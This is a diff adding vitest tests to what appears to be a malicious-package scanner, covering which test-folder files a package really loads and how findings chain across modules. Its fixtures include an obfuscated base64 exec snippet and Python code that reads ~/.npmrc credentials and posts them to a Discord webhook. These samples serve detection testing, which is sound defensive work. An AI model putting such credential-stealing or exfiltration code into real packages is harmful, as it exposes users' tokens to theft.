@@ -6,7 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { corpusPath, hasCorpora, REPO_ROOT } from '../../../../test/corpora.js';
 import { openRelease } from '../../package/open.js';
 import { releaseOf } from '../release.fixture.js';
-import { commandParts, gypCommands, npmHooks } from './hooks.js';
+import { commandParts, gypCommands, loadedAsideFiles, npmHooks } from './hooks.js';
 import { analyzeSource } from './index.js';
 
 const ctx = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
@@ -103,5 +103,50 @@ describe.runIf(hasCorpora())('a real native addon', () => {
     expect(gyp.length).toBeGreaterThan(0);
     expect(gyp.every((h) => h.ordinary && !h.shell)).toBe(true);
     expect(gyp.map((h) => h.command)).toContain(`node -p "require('node-addon-api').targets"`);
+  });
+});
+
+describe('loadedAsideFiles', () => {
+  const aside = (p: string): boolean => /(?:^|\/)(?:tests?|testing|examples?)\//.test(p);
+  it("a test-folder module the package's own code imports (relative or absolute, as a submodule name) is not set aside", () => {
+    const files = {
+      'pkg/__init__.py': 'from .core import x\nfrom .testing import fixtures as _f\n',
+      'pkg/core.py': 'import os\n',
+      'pkg/testing/__init__.py': '',
+      'pkg/testing/fixtures.py': 'from ..testing import helpers\n',
+      'pkg/testing/helpers.py': '',
+      'pkg/testing/unused.py': '',
+      'tests/test_core.py': 'from pkg.testing import unused\n',
+    };
+    const loaded = loadedAsideFiles(releaseOf('pypi', files), aside);
+    expect([...loaded].sort()).toEqual(['pkg/testing/__init__.py', 'pkg/testing/fixtures.py', 'pkg/testing/helpers.py']);
+    // the module only the tests import stays aside
+    expect(loaded.has('pkg/testing/unused.py')).toBe(false);
+    const abs = loadedAsideFiles(releaseOf('pypi', { 'pkg/__init__.py': 'import pkg.testing.unused\n', 'pkg/testing/unused.py': '' }), aside);
+    expect([...abs]).toEqual(['pkg/testing/unused.py']);
+  });
+  it('npm: a file under test/ that the main module requires', () => {
+    const loaded = loadedAsideFiles(releaseOf('npm', { 'index.js': "require('./test/setup')\n", 'test/setup.js': '', 'test/other.js': "require('./setup')\n" }), aside);
+    expect([...loaded]).toEqual(['test/setup.js']);
+  });
+  it("a finding in such a file keeps its severity; the same file that nothing loads is read as a test's", () => {
+    const payload = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
+    const sev = (init: string): string | undefined =>
+      analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': init, 'pkg/testing/fixtures.py': payload }), ctx).findings.find((f) => f.code === 'py_exec_decoded')?.severity;
+    expect(sev('from .testing import fixtures\n')).toBe('high');
+    expect(sev('x = 1\n')).toBe('medium');
+  });
+});
+
+describe('chains across files that load one another', () => {
+  const chains = (files: Record<string, string>): string[] => (analyzeSource(releaseOf('pypi', files), ctx).chains ?? []).map((c) => c.title);
+  const collect = 'import os\ndef grab():\n    return open(os.path.expanduser("~/.npmrc")).read()\n';
+  const send = (imp: string): string => `${imp}\nimport requests\ndef go():\n    requests.post("https://discord.com/api/webhooks/1/x", json={"c": grab()})\n`;
+  it('a module that reads credentials and the module that imports it and sends them form one chain', () => {
+    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from .collect import grab') })).toEqual(['reads credential files -> sends it to a Discord webhook']);
+    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from pkg import collect') })).toHaveLength(1);
+  });
+  it('the same two modules with no import between them form none', () => {
+    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from .other import grab') })).toEqual([]);
   });
 });
